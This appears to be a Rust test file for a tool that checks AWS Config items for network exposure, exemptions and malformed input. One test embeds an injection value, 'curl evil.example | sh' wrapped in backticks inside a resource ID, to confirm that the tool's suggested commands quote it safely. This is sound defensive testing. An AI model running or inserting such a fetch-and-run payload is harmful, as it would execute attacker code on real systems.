    let out_of_scope = invocation(&parsed(&fixture("envelopes/config-notification.json")), true);
    let found = payload(&out_of_scope.to_string());
    assert_eq!(text(&found.items), "AWS::EC2::SecurityGroup sg-0123456789abcdef0 NOT_APPLICABLE: -");
    assert_eq!((found.tally.received, found.tally.clean), (1, 1));
}

#[test]
fn an_entry_that_is_denied_before_is_not_reported() {
    let acl = |deny: &Value| {
        let configuration = json!({"entries": [
            {"ruleNumber": 100, "egress": false, "ruleAction": "allow", "protocol": "6", "cidrBlock": "0.0.0.0/0", "portRange": {"from": 22, "to": 22}},
            deny,
        ]});
        payload(&message(&item("AWS::EC2::NetworkAcl", "acl-0123456789abcdef0", &configuration)).to_string())
            .findings
            .len()
    };
    let deny = |number: u16, protocol: &str, network: &str| json!({"ruleNumber": number, "egress": false, "ruleAction": "deny", "protocol": protocol, "cidrBlock": network});
    assert_eq!(acl(&deny(50, "-1", "0.0.0.0/0")), 0);
    assert_eq!(acl(&deny(50, "6", "0.0.0.0/0")), 0);
    assert_eq!(acl(&deny(50, "17", "0.0.0.0/0")), 1, "another protocol");
    assert_eq!(acl(&deny(50, "-1", "10.0.0.0/8")), 1, "a smaller network");
    assert_eq!(acl(&deny(200, "-1", "0.0.0.0/0")), 1, "too late");
}

#[test]
fn interfaces_of_services_and_requests_of_others_are_not_reported() {
    let found = |resource_type: &str, configuration: Value| {
        payload(&message(&item(resource_type, "x-0123456789abcdef0", &configuration)).to_string()).findings.len()
    };
    let association = json!({"publicIp": "198.51.100.7", "ipOwnerId": ACCOUNT, "allocationId": "eipalloc-1"});
    let interface = |kind: &str, managed: bool| json!({"interfaceType": kind, "requesterManaged": managed, "sourceDestCheck": false, "association": association});
    assert_eq!(found("AWS::EC2::NetworkInterface", interface("interface", false)), 2);
    assert_eq!(found("AWS::EC2::NetworkInterface", interface("interface", true)), 0);
    assert_eq!(found("AWS::EC2::NetworkInterface", interface("nat_gateway", false)), 0);
    let peering = |status: Value| json!({"status": status, "requesterVpcInfo": {"ownerId": "444455556666"}, "accepterVpcInfo": {"ownerId": ACCOUNT}});
    assert_eq!(found("AWS::EC2::VPCPeeringConnection", peering(json!("active"))), 1);
    assert_eq!(found("AWS::EC2::VPCPeeringConnection", peering(json!({"code": "pending-acceptance"}))), 0);
    assert_eq!(found("AWS::EC2::VPCPeeringConnection", peering(json!({"code": "deleted"}))), 0);
    assert_eq!(
        found("AWS::EC2::Instance", json!({"state": {"name": "terminated"}, "publicIpAddress": "198.51.100.7"})),
        0
    );
    assert_eq!(found("AWS::EC2::PrefixList", json!({"OwnerId": "AWS", "Entries": [{"Cidr": "0.0.0.0/0"}]})), 0);
}

#[test]
fn other_messages_of_config_hold_no_items() {
    for kind in [
        "ScheduledNotification",
        "ConfigurationSnapshotDeliveryStarted",
        "ConfigurationSnapshotDeliveryCompleted",
        "ConfigurationSnapshotDeliveryFailed",
        "ConfigurationHistoryDeliveryCompleted",
        "ComplianceChangeNotification",
        "ConfigRulesEvaluationStarted",
    ] {
        let message = json!({"messageType": kind, "awsAccountId": ACCOUNT, "s3ObjectKey": "a", "s3Bucket": "b"});
        for text in [
            message.to_string(),
            invocation(&message, false).to_string(),
            sns(&message).to_string(),
            event(&message).to_string(),
        ] {
            let found = payload(&text);
            assert_eq!((found.tally.control, found.tally.received), (1, 0), "{text}");
        }
    }
}

#[test]
fn what_cannot_be_evaluated_is_rejected_by_name_and_costs_nothing_else() {
    let good = item(GROUP.0, GROUP.1, &json!({"groupName": "default", "ipPermissionsEgress": [{"ipProtocol": "-1"}]}));
    let without = |key: &str| {
        let mut item = good.clone();
        item.as_object_mut().unwrap().remove(key);
        item
    };
    let file = json!({"fileVersion": "1.0", "configurationItems": [
        without("resourceType"), without("resourceId"), without("configurationItemCaptureTime"), without("configuration"), 7, good,
    ]});
    for found in [
        payload(&file.to_string()),
        stream(file.to_string().as_bytes()),
        stream(serde_json::to_string_pretty(&file).unwrap().as_bytes()),
    ] {
        assert_eq!(found.findings.len(), 1);
        insta::allow_duplicates! {
            insta::assert_snapshot!(found.reasons().join("\n").replace("input:1:", "input:"), @"
            input: record 1: the configuration item of AWS Config has no resourceType
            input: record 2: the configuration item of AWS Config has no resourceId
            input: record 3: the configuration item of AWS Config has no configurationItemCaptureTime
            input: record 4: the configuration item of AWS::EC2::SecurityGroup sg-0123456789abcdef0 has no `configuration`; get it with `aws configservice get-resource-config-history`
            input: record 5: the configuration item of AWS Config has no resourceType
            ");
        }
    }
    let mut proactive = invocation(&message(&good), false);
    proactive["evaluationMode"] = json!("PROACTIVE");
    let no_item = json!({"messageType": "ConfigurationItemChangeNotification"});
    let broken = json!({"invokingEvent": "{\"configurationItem\":"});
    let other = json!({"invokingEvent": "{\"messageType\": \"Other\"}"});
    let reasons: Vec<String> =
        [proactive, no_item, broken, other].iter().flat_map(|one| payload(&one.to_string()).reasons()).collect();
    insta::assert_snapshot!(reasons.join("\n"), @"
    input: an invocation of an AWS Config rule in proactive mode, in which the resource has the form of CloudFormation; use the detective mode, and `trailwarden plan` before a deployment
    input: a notification of AWS Config without its configurationItem
    input: an invocation of an AWS Config rule whose invokingEvent cannot be read: the JSON ends early; it is cut off
    input: an invocation of an AWS Config rule whose invokingEvent has no messageType of AWS Config
    ");
}

#[test]
fn a_large_snapshot_is_read_item_by_item() {
    let count = 700;
    let mut file = GzEncoder::new(Vec::new(), Compression::fast());
    write!(file, "{{\"fileVersion\": \"1.0\", \"configSnapshotId\": \"a\",\n \"configurationItems\": [").unwrap();
    let filler = "x".repeat(100_000);
    for number in 0..count {
        let configuration = json!({"groupName": "a", "description": filler, "ipPermissions": []});
        let separator = if number == 0 { "" } else { "," };
        write!(file, "{separator}{}", item(GROUP.0, &format!("sg-{number:017x}"), &configuration)).unwrap();
    }
    write!(file, "]}}").unwrap();
    let bytes = file.finish().unwrap();
    // More than the 64 MiB that one line may have.
    let found = stream(&bytes);
    assert_eq!(found.reasons(), Vec::<String>::new());
    assert_eq!((found.tally.received, found.tally.clean), (count, count));
    assert_eq!(found.items.len() as u64, count);
    // A file that is cut off keeps the items before its end.
    let text =
        json!({"fileVersion": "1.0", "configurationItems": [item(GROUP.0, GROUP.1, &json!({"ipPermissions": []}))]})
            .to_string();
    let cut = stream(&text.as_bytes()[..text.len() - 2]);
    assert_eq!((cut.tally.clean, cut.tally.rejected), (1, 1));
}

/// Fetches an item, and remembers which.
struct Source {
    answer: Result<String, FetchError>,
    asked: RefCell<Vec<OversizedItem>>,
}

impl FetchItem for Source {
    fn fetch_item(&self, item: &OversizedItem) -> Result<String, FetchError> {
        self.asked.borrow_mut().push(item.clone());
        self.answer.clone()
    }
}

fn oversized(status: &str) -> Value {
    json!({
        "configurationItemSummary": {"changeType": "UPDATE", "configurationItemVersion": "1.3", "configurationStateId": 1,
            "configurationItemCaptureTime": "2026-03-04T10:00:22.418Z", "awsAccountId": ACCOUNT, "configurationItemStatus": status,
            "resourceType": GROUP.0, "resourceId": GROUP.1, "resourceName": "a", "awsRegion": REGION,
            "ARN": "arn:aws:ec2:eu-west-1:111122223333:security-group/sg-0123456789abcdef0"},
        "s3DeliverySummary": {"s3BucketLocation": "example-config/AWSLogs/oversized.json.gz", "errorCode": null, "errorMessage": null},
        "notificationCreationTime": "2026-03-04T10:00:24.101Z",
        "messageType": "OversizedConfigurationItemChangeNotification",
        "recordVersion": "1.0",
    })
}

#[test]
fn an_oversized_item_is_fetched_or_rejected_with_what_to_do() {
    let pipeline = Pipeline::new(RuleSet::load(&[]).unwrap());
    let whole = parsed(&fixture("envelopes/config-notification.json"));
    let item = whole["configurationItem"].to_string();
    let mut from_rule = oversized("OK");
    from_rule.as_object_mut().unwrap().remove("s3DeliverySummary");
    let from_rule = invocation(&from_rule, false).to_string();
    let source = Source { answer: Ok(item), asked: RefCell::default() };
    let gather = |text: &str, source: &Source| -> Evaluated {
        pipeline.gather("payload", Input::WithItems(Box::new(Input::Payload(text)), source))
    };
    let found = gather(&from_rule, &source);
    assert_eq!((found.findings.len(), found.tally.matched), (1, 1));
    assert_eq!(found.items[0].compliance, Compliance::NonCompliant);
    let asked = source.asked.borrow_mut().remove(0);
    assert_eq!((asked.resource_id.as_str(), asked.capture_time.as_str()), (GROUP.1, "2026-03-04T10:00:22.418Z"));
    // The same item, however it was read.
    assert_eq!(found.findings[0].message_uid(), payload(&whole.to_string()).findings[0].message_uid());

    let denied = Err(FetchError { reason: "AccessDenied".to_owned(), is_transient: false });
    let found = gather(&from_rule, &Source { answer: denied, asked: RefCell::default() });
    assert_eq!((found.tally.rejected, found.rejections[0].cause), (1, Cause::ObjectUnavailable));
    // A deleted resource is in the summary.
    let found = gather(&invocation(&oversized("ResourceDeleted"), false).to_string(), &source);
    assert_eq!((found.tally.clean, found.items[0].compliance), (1, Compliance::NotApplicable));
    assert!(source.asked.borrow().is_empty());

    // The delivery channel keeps the whole message in an object.
    let objects = Bucket(
        [("s3://example-config/AWSLogs/oversized.json.gz".to_owned(), Ok(whole.to_string().into_bytes()))].into(),
    );
    let found = pipeline
        .gather("payload", Input::WithObjects(Box::new(Input::Payload(&sns(&oversized("OK")).to_string())), &objects));
    assert_eq!((found.findings.len(), found.tally.matched), (1, 1));
    let rejected = [from_rule.clone(), sns(&oversized("OK")).to_string()];
    let reasons: Vec<String> = rejected.iter().flat_map(|text| payload(text).reasons()).collect();
    insta::assert_snapshot!(reasons.join("\n"), @"
    input: the configuration item of AWS::EC2::SecurityGroup sg-0123456789abcdef0 is too large for the message and is not in it; get the item with `aws configservice get-resource-config-history --resource-type AWS::EC2::SecurityGroup --resource-id sg-0123456789abcdef0 --later-time 2026-03-04T10:00:22.418Z --limit 1` and evaluate the output
    input: the configuration item of AWS::EC2::SecurityGroup sg-0123456789abcdef0 is too large for the message and is not in it; download the object s3://example-config/AWSLogs/oversized.json.gz and evaluate the file
    ");
    // A log event must not choose what is read.
    let batch = json!({"logEvents": [{"id": "a", "message": oversized("OK").to_string()}], "messageType": "DATA_MESSAGE",
                       "owner": ACCOUNT, "logGroup": "g", "logStream": "s", "subscriptionFilters": []});
    let source = Source { answer: Ok(String::new()), asked: RefCell::default() };
    assert_eq!(gather(&batch.to_string(), &source).tally.rejected, 1);
    assert!(source.asked.borrow().is_empty());
    // Whoever only lists items gets the reason.
    assert_eq!(Reader::stream("input", Cursor::new(from_rule.into_bytes())).count(), 1);
}

#[test]
fn what_an_attacker_writes_is_quoted_and_limited() {
    let mut message = oversized("OK");
    message["configurationItemSummary"]["resourceId"] = json!("sg-1`; curl evil.example | sh; `\u{1b}[31m");
    message["s3DeliverySummary"] = Value::Null;
    insta::assert_snapshot!(payload(&message.to_string()).reasons().join("\n"), @r"input: the configuration item of AWS::EC2::SecurityGroup sg-1`; curl evil.example | sh; `\u{1b}[31m is too large for the message and is not in it; get the item with `aws configservice get-resource-config-history --resource-type AWS::EC2::SecurityGroup --resource-id 'sg-1`; curl evil.example | sh; `\u{1b}[31m' --later-time 2026-03-04T10:00:22.418Z --limit 1` and evaluate the output");
    let routes: Vec<Value> = (0..2001)
        .map(|number| json!({"destinationCidrBlock": format!("10.{}.{}.0/24", number / 256, number % 256), "gatewayId": "igw-1"}))
        .collect();
    let table = item("AWS::EC2::RouteTable", "rtb-0123456789abcdef0", &json!({"routes": routes}));
    let reasons = payload(&self::message(&table).to_string()).reasons();
    assert_eq!(
        reasons,
        [
            "input: the configuration item of AWS::EC2::RouteTable rtb-0123456789abcdef0 has more parts than AWS allows for a resource"
        ]
    );
    // A record that claims to be a state is judged as a call.
    let mut record = call("ec2", "DeleteVpc", &json!({"vpcId": "vpc-1"}), &Value::Null);
    record["configurationItem"] = json!({"resourceType": "AWS::EC2::VPC"});
    assert_eq!(payload(&record.to_string()).findings[0].rule.name, "blocked-action");
}

#[test]
fn tags_and_default_vpcs_are_exempt_where_configured() {
    let exemptions = "title: Internal networks
name: internal-network
logsource: {product: aws, service: cloudtrail}
filter:
  rules: any
  tagged:
    configurationItem.tags.INTERNAL_NETWORK: '?*'
  condition: not tagged
trailwarden:
  owner: network
  reason: Has no way to the internet.
  expires: 2099-12-31
";
    let configuration = "live-state:
  exempt-default-vpc: true
  exempt-vpc-tags: [INTERNAL_NETWORK]
";
    let directory = directory(&[("exemptions.yml", exemptions), ("trailwarden.yml", configuration)]);
    let path = |name: &str| directory.path().join(name);
    let file = ConfigurationFile::read(&path("trailwarden.yml")).unwrap();
    let configuration = Configuration { exemptions: Some(path("exemptions.yml")), file, ..Configuration::default() };
    let pipeline = configuration.pipeline().unwrap();
    let gather = |item: &Value| pipeline.gather("payload", Input::Payload(&message(item).to_string()));

    let mut tagged = parsed(&fixture("envelopes/config-notification.json"))["configurationItem"].clone();
    assert_eq!(gather(&tagged).tally.matched, 1);
    tagged["tags"] = json!({"INTERNAL_NETWORK": "yes"});
    let found = gather(&tagged);
    assert_eq!((found.tally.exempt, found.items[0].compliance), (1, Compliance::Compliant));
    insta::assert_snapshot!(found.items[0].annotation.as_deref().unwrap(), @"exempt by internal-network of network until 2099-12-31: Has no way to the internet.");

    let vpc = item("AWS::EC2::VPC", "vpc-0123456789abcdef0", &json!({"isDefault": true}));
    let found = gather(&vpc);
    assert_eq!(found.tally.exempt, 1);
    assert_eq!(found.findings[0].suppression.as_ref().unwrap().reason, "vpc-0123456789abcdef0 is the default VPC");
    let exemptions = path("exemptions.yml");
    let output = run(&["exemptions", "check", "--exemptions", exemptions.to_str().unwrap()]);
    assert!(!String::from_utf8_lossy(&output.stderr).contains("configurationItem"), "{output:?}");
}

#[test]
fn live_state_verifies_an_item_as_one_record() {
    let snapshot = Snapshot::open(&fixture("live-state")).unwrap();
    let pipeline = Pipeline::new(RuleSet::load(&[]).unwrap());
    let configuration = json!({"state": {"name": "running"}, "sourceDestCheck": false, "publicIpAddress": "198.51.100.7",
                               "metadataOptions": {"httpTokens": "optional", "httpEndpoint": "enabled"}});
    let instance = item("AWS::EC2::Instance", "i-0123456789abcdef0", &configuration);
    let text = message(&instance).to_string();
    let found = pollster::block_on(pipeline.gather_settled("payload", Input::Payload(&text), &snapshot));
    assert!(found.tally.balances(), "{}", found.tally);
    assert_eq!((found.tally.received, found.tally.matched, found.items.len()), (1, 1, 1));
    assert_eq!(found.items[0].compliance, Compliance::NonCompliant);
    let named: BTreeSet<(&str, bool)> =
        found.findings.iter().map(|one| (one.rule.name.as_str(), one.live.is_some())).collect();
    for expected in [("imdsv1-allowed-started", false), ("instance-public-ip", true), ("source-dest-check-off", false)]
    {
        assert!(named.contains(&expected), "{named:?}");
    }
    for finding in &found.findings {
        assert_eq!(finding.actor.name, "an unknown caller");
        assert!(finding.action.is_none());
        assert!(finding.rule.pack.as_deref().is_some_and(|pack| STATE_PACKS.contains(&pack)), "{}", finding.rule.name);
    }
}

#[test]
fn a_repeated_item_counts_once() {
    let item = parsed(&fixture("envelopes/config-notification.json"))["configurationItem"].clone();
    let found = payload(&json!({"configurationItems": [item, item]}).to_string());
    assert_eq!((found.tally.received, found.tally.duplicates, found.findings.len()), (1, 1, 1));
}

/// The item as the pipeline of a Config rule with these parameters evaluates it.
fn by_rule(parameters: &Value, item: &Value) -> Evaluated {
    let parameters = Parameters::parse(&parameters.to_string()).unwrap();
    let pipeline = Pipeline::new(RuleSet::load(&[]).unwrap()).with_config_rule("open-ports".to_owned(), parameters);
    pipeline.gather("payload", Input::Payload(&message(item).to_string()))
}

#[test]
fn ports_that_a_config_rule_allows_may_be_open_and_no_others() {
    let entry = |from: u16, to: u16| json!({"ipProtocol": "tcp", "fromPort": from, "toPort": to, "ipv4Ranges": [{"cidrIp": "0.0.0.0/0"}]});
    let list =
        json!({"ipProtocol": "tcp", "fromPort": 9000, "toPort": 9000, "prefixListIds": [{"prefixListId": "pl-1"}]});
    let group =
        |name: &str, entries: Value| item(GROUP.0, GROUP.1, &json!({"groupName": name, "ipPermissions": entries}));
    let open = |parameters: Value, item: &Value| {
        let found = by_rule(&parameters, item);
        let open = found.findings.iter().filter(|finding| finding.suppression.is_none());
        (open.map(|finding| finding.rule.name.clone()).collect::<Vec<_>>(), found.items[0].compliance)
    };
    let ports = |ports: &str| json!({"allowedPorts": ports});
    let (not, fine) = (Compliance::NonCompliant, Compliance::Compliant);
    let admin = || "sg-ingress-world-admin".to_owned();
    assert_eq!(open(json!({}), &group("a", json!([entry(22, 22)]))), (vec![admin()], not));
    assert_eq!(open(ports("22"), &group("a", json!([entry(22, 22)]))), (vec![], fine));
    // A range that is only partly allowed, and another port.
    assert_eq!(open(ports("22"), &group("a", json!([entry(21, 22)]))), (vec![admin()], not));
    assert_eq!(open(ports("443"), &group("a", json!([entry(443, 443), entry(22, 22)]))).0, [admin()]);
    // All protocols have no ports.
    let all = json!([{"ipProtocol": "-1", "ipv4Ranges": [{"cidrIp": "0.0.0.0/0"}]}]);
    assert_eq!(open(ports("0-65535"), &group("a", all)).1, not);
    // Another port may be open by a prefix list.
    assert_eq!(open(ports("22"), &group("a", json!([entry(22, 22), list]))).1, not);
    // The default security group should have no rules, on whatever port.
    assert_eq!(open(ports("22"), &group("default", json!([entry(22, 22)]))).0, ["default-security-group"]);

    let listener = item(
        "AWS::ElasticLoadBalancingV2::Listener",
        "arn:aws:elasticloadbalancing:eu-west-1:111122223333:listener/net/a/1/2",
        &json!({"port": 22, "protocol": "TCP"}),
    );
    assert_eq!(open(ports("23"), &listener).1, not);
    assert_eq!(open(ports("22"), &listener).1, fine);
    let acl = |action: &str| {
        let entry = |number: u16, port: u16, action: &str| {
            json!({"ruleNumber": number, "protocol": "6", "ruleAction": action, "egress": false, "cidrBlock": "0.0.0.0/0",
                   "portRange": {"from": port, "to": port}})
        };
        let entries = json!([entry(1, 3389, action), entry(2, 22, "allow"), entry(3, 3389, "allow")]);
        item("AWS::EC2::NetworkAcl", "acl-0123456789abcdef0", &json!({"entries": entries}))
    };
    assert_eq!(open(ports("22"), &acl("deny")).1, fine);
    assert_eq!(open(ports("22"), &acl("allow")).1, not);
}

#[test]
fn tags_that_a_config_rule_exempts_suppress_the_findings_of_a_resource() {
    let mut tagged = parsed(&fixture("envelopes/config-notification.json"))["configurationItem"].clone();
    tagged["tags"] = json!({"stage": "lab\u{1b}[2J"});
    let found = by_rule(&json!({"exemptTags": "stage=production"}), &tagged);
    assert_eq!(found.items[0].compliance, Compliance::NonCompliant);
    let found = by_rule(&json!({"exemptTags": "owner,stage"}), &tagged);
    assert_eq!((found.tally.exempt, found.items[0].compliance), (1, Compliance::Compliant));
    insta::assert_snapshot!(found.items[0].annotation.as_deref().unwrap(), @"exempt by exemptTags of the Config rule open-ports: the resource has the tag stage");
}

#[test]
fn a_problem_is_over_only_if_the_item_would_show_it() {
    let rules = RuleSet::load(&[]).unwrap();
    let rule = |name: &str| {
        let rule = rules.rules().iter().find(|rule| rule.name() == name);
        rule.unwrap_or_else(|| panic!("{name} is no rule")).pack().map(str::to_owned)
    };
    for (resource_type, names) in decided_rules() {
        assert!(mapped_types().any(|mapped| mapped == resource_type), "{resource_type}");
        for name in names {
            let pack = rule(name).unwrap();
            assert!(STATE_PACKS.contains(&pack.as_str()), "{name}");
        }
    }
    let findings = payload(&parsed(&fixture("envelopes/config-rule.json")).to_string()).findings;
    let admin = findings.iter().find(|finding| finding.rule.name == "sg-ingress-world-admin").unwrap();
    let other = |name: &str, pack: &str| {
        let mut rule = (*admin.rule).clone();
        (rule.name, rule.pack) = (name.to_owned(), Some(pack.to_owned()));
        rule
    };
    let refutes = |status: &str, left_scope: bool, findings: &[Finding]| {
        let mut item = item(GROUP.0, GROUP.1, &json!({"groupName": "a", "ipPermissions": []}));
        item["configurationItemStatus"] = json!(status);
        let evaluated = ConfigurationItem::parse(&item.to_string(), left_scope).unwrap().evaluated(findings);
        let refuted = [&*admin.rule, &other("sg-ingress-world-reached", "exposure"), &other("blocked-action", "calls")];
        (evaluated.absence, refuted.map(|rule| evaluated.refutes(rule)))
    };
    assert_eq!(refutes("OK", false, &[]), (Absence::Decided, [true, false, false]));
    assert_eq!(refutes("ResourceDeleted", false, &[]), (Absence::Deleted, [true, true, false]));
    assert_eq!(refutes("ResourceNotRecorded", false, &[]).0, Absence::Unknown);
    assert_eq!(refutes("OK", true, &[]).0, Absence::Unknown);
    let undecided = Finding { status: trailwarden::finding::Status::Warning, ..admin.clone() };
    assert_eq!(refutes("OK", false, &[undecided]), (Absence::Unknown, [false; 3]));
}
